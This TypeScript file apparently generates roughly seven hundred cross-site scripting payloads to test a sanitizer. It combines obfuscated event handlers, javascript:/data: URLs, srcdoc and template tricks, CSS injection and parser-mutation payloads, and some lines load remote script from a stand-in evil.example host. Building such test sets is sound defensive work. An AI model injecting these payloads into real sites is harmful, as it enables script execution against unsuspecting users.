/**
 * Some seven hundred ways to smuggle in a script, made of what browsers run, how it can be spelled and where it can be hidden.
 * One that ran would open a dialog. Pictures are there and have a description, so that the check finds nothing to refuse.
 */
export function payloadVariants(): string[] {
  return [...new Set([handlers(), addresses(), links(), documents(), mutations()].flat())];
}

const shown = 'alt=x src=../images/x.png';

/** Elements whose handlers run by themselves, or once they are seen, pointed at or focused. */
const elements = [
  [`img ${shown}`, 'load'],
  ['svg', 'load'],
  ['svg><animate attributeName=x dur=1s', 'begin'],
  ['svg><set attributeName=x to=y', 'begin'],
  ['math><mi tabindex=1 autofocus', 'focus'],
  ['video autoplay', 'loadstart'],
  ['audio', 'loadstart'],
  ['details open', 'toggle'],
  ['body', 'pageshow'],
  ['iframe', 'load'],
  ['object', 'error'],
  ['embed', 'load'],
  ['input autofocus', 'focus'],
  ['button autofocus', 'focusin'],
  ['a tabindex=1 autofocus', 'focus'],
  ['p contenteditable autofocus', 'focus'],
  ['div style=position:fixed;inset:0', 'pointerover'],
  ['marquee', 'start'],
  ['link rel=stylesheet', 'error'],
  ['otr-search', 'auxclick'],
  ['x-element style=animation:x', 'animationend'],
  ['b style=transition:1s', 'transitionrun'],
  ['table', 'wheel'],
  ['frameset', 'beforeunload'],
  ['track', 'error'],
  ['source', 'error'],
] as const;

/** Handlers as they can be spelled. */
const spellings = [
  (event: string) => ` on${event}=alert(1)`,
  (event: string) => ` on${event}="alert(1)"`,
  (event: string) => ` on${event}='alert(1)'`,
  (event: string) => ` ON${event.toUpperCase()}=alert(1)`,
  (event: string) => `\non${event}=\nalert(1)`,
  (event: string) => `\ton${event}\t=\talert(1)`,
  (event: string) => ` x="y"on${event}=alert(1)`,
  (event: string) => ` on${event}=&#97;lert(1)`,
  (event: string) => ` on${event}=&#x61;&#x6C;ert&lpar;1&rpar;`,
  (event: string) => ` on${event}=top['al'+'ert'](1)`,
  (event: string) => ` on${event}=alert\`1\``,
  (event: string) => ` title='>' on${event}=alert(1)`,
];

function handlers(): string[] {
  return elements.flatMap(([element, event], number) =>
    spellings.flatMap((spell, index) => ((number + index) % 2 === 0 ? `<${element}${spell(event)}>x` : [])),
  );
}

/** Addresses that run, or show what runs. */
const running = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'jAvAsCrIpT:alert(1)',
  'javascript:alert(1)//https://a.example/',
  'javascript://a.example/%0Aalert(1)',
  'javascript:/*--></title></style>*/alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript:alert(1)',
  '&#0000106avascript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'java&#10;script:alert(1)',
  'java&#x0D;script:alert(1)',
  '&#1;javascript:alert(1)',
  '&#32;&#32;javascript:alert(1)',
  '&nbsp;javascript:alert(1)',
  'javascript\\x3Aalert(1)',
  'javascript%3Aalert(1)',
  'vbscript:msgbox(1)',
  'VbScRiPt:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,%3Cscript%3Ealert(1)%3C/script%3E',
  'DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,%3Csvg/onload=alert(1)%3E',
  'data:application/xhtml+xml,%3Cscript%20xmlns=%22http://www.w3.org/1999/xhtml%22%3Ealert(1)%3C/script%3E',
  'view-source:javascript:alert(1)',
  'jar:javascript:alert(1)!/',
  'filesystem:javascript:alert(1)',
  '//evil.example/x.js',
  '/\\evil.example/x.js',
  '\\\\evil.example\\x.js',
  'https:evil.example/x.js',
];

/** Attributes that go there, or fetch from there. */
const carriers = [
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<a target=_blank href='${url}'>x</a>`,
  (url: string) => `<map name=x><area shape=default href="${url}"></map>`,
  (url: string) => `<form action="${url}"><button>x</button></form>`,
  (url: string) => `<form><button formaction="${url}">x</button></form>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<img ${shown} srcset="${url} 1x" longdesc="${url}" dynsrc="${url}" lowsrc="${url}">`,
  (url: string) => `<input type=image src="${url}">`,
  (url: string) => `<video src="${url}" poster="${url}"><source src="${url}"><track default src="${url}"></video>`,
  (url: string) => `<svg><a xlink:href="${url}" href="${url}"><text y=9>x</text></a></svg>`,
  (url: string) => `<svg><use href="${url}#x" /><image href="${url}" /><script href="${url}"></script></svg>`,
  (url: string) => `<svg><a><animate attributeName=href values="${url}" /><text y=9>x</text></a></svg>`,
  (url: string) => `<math><mi href="${url}" xlink:href="${url}">x</mi></math>`,
  (url: string) => `<base href="${url}">`,
  (url: string) =>
    `<link rel="stylesheet" href="${url}"><link rel=import href="${url}"><link rel=modulepreload href="${url}">`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `<table background="${url}"><td background="${url}">x</table>`,
  (url: string) => `<q cite="${url}">x</q><ins cite="${url}">x</ins>`,
  (url: string) => `<script src="${url}"></script>`,
  (url: string) => `<p style="background:url('${url}');behavior:url('${url}')">x</p>`,
  (url: string) => `<a href=# ping="${url}" attributionsrc="${url}">x</a>`,
];

/** Every attribute with a third of the addresses, every address with a third of the attributes. */
function addresses(): string[] {
  return carriers.flatMap((carry, number) =>
    running.flatMap((url, index) => ((number + index) % 3 === 0 ? carry(url) : [])),
  );
}

/** What can only be a picture of a file that is not there is refused before anything is built. */
const isElsewhere = /^(?:[a-z-]+:(?!\/\*)|\/\/)/i;

/** The same addresses in all forms of links that Markdown has. */
function links(): string[] {
  return running.flatMap((url, index) => [
    `[x](${url.replace(/[()]/g, '\\$&')})`,
    `[x](<${url}> "title")`,
    `<${url}>`,
    `[x][reference-${index}]\n\n[reference-${index}]: <${url}>`,
    ...(isElsewhere.test(url) ? [`![x](<${url}>)`, `<img alt=x src="${url}">`] : []),
  ]);
}

/** Documents, styles and templates within the page. */
function documents(): string[] {
  const inner = '<script>alert(1)</script>';
  const entities = inner.replace(/[<>]/g, (sign) => `&#${sign.charCodeAt(0)};`);
  const styles = [
    '@import"//evil.example/x.css"',
    '*{background:url(javascript:alert(1))}',
    '*{x:expression(alert(1))}',
  ];
  return [
    ...[inner, entities, entities.replaceAll('&', '&amp;'), inner.toUpperCase()].flatMap((text) => [
      `<iframe srcdoc="${text}"></iframe>`,
      `<iframe srcdoc='${text}' sandbox="allow-scripts allow-same-origin"></iframe>`,
      `<svg><foreignObject><iframe srcdoc="${text}"></iframe></foreignObject></svg>`,
      `<template>${text}</template>`,
      `<template shadowrootmode=open>${text}</template>`,
      `<div><template shadowrootmode=closed>${text}<slot></slot></template>x</div>`,
      `<noscript>${text}</noscript>`,
      `<object type=text/html>${text}</object>`,
      `<math><annotation-xml encoding="application/xhtml+xml">${text}</annotation-xml></math>`,
      `<svg><desc>${text}</desc></svg>`,
    ]),
    ...styles.flatMap((style) => [
      `<style>${style}</style>`,
      `<svg><style>${style}</style></svg>`,
      `<math><style>${style}</style></math>`,
      `<p style="${style.replace(/^\*\{|\}$/g, '').replaceAll('"', "'")}">x</p>`,
      `<p style=${style.replace(/[^a-z]/gi, (sign) => `&#${sign.charCodeAt(0)};`)}>x</p>`,
      `<b style="x:y&#59;-moz-binding:url(//evil.example/x#y)&#59;${style.slice(0, 6).replaceAll('"', '')}">x</b>`,
    ]),
  ];
}

/** What one parser takes for text and another for an element. */
function mutations(): string[] {
  const evil = `<img ${shown} onload=alert(1)>`;
  const raw = [
    'style',
    'title',
    'textarea',
    'xmp',
    'noembed',
    'noscript',
    'noframes',
    'iframe',
    'script',
    'template',
    'select',
  ];
  const foreign = [
    'svg',
    'math',
    'math><mtext',
    'svg><desc',
    'math><annotation-xml',
    'svg><title',
    'form><math><mtext',
  ];
  return [
    ...raw.flatMap((name) => [
      `<${name}><a title="</${name}>${evil}">x</a></${name}>`,
      `<${name}><!--</${name}>${evil}--></${name}>`,
      `<p title="<${name}>">x</p title="</${name}>${evil}">`,
    ]),
    ...foreign.flatMap((opening) =>
      ['style', 'title', 'textarea'].map((name) => `<${opening}><${name}><a title="</${name}>${evil}">x</a></${name}>`),
    ),
    ...foreign.map((opening) => `<${opening}></p><${'table><'.repeat(3)}a id="</table>${evil}">x`),
    ...foreign.map((opening) => `<${opening}><![CDATA[${evil}]]>`),
    `${'<div>'.repeat(40)}${evil}${'</div>'.repeat(40)}`,
    `${'<table><caption>'.repeat(12)}${evil}`,
    `<p a="${'&quot;'.repeat(50)}>${evil}">x</p>`,
  ];
}
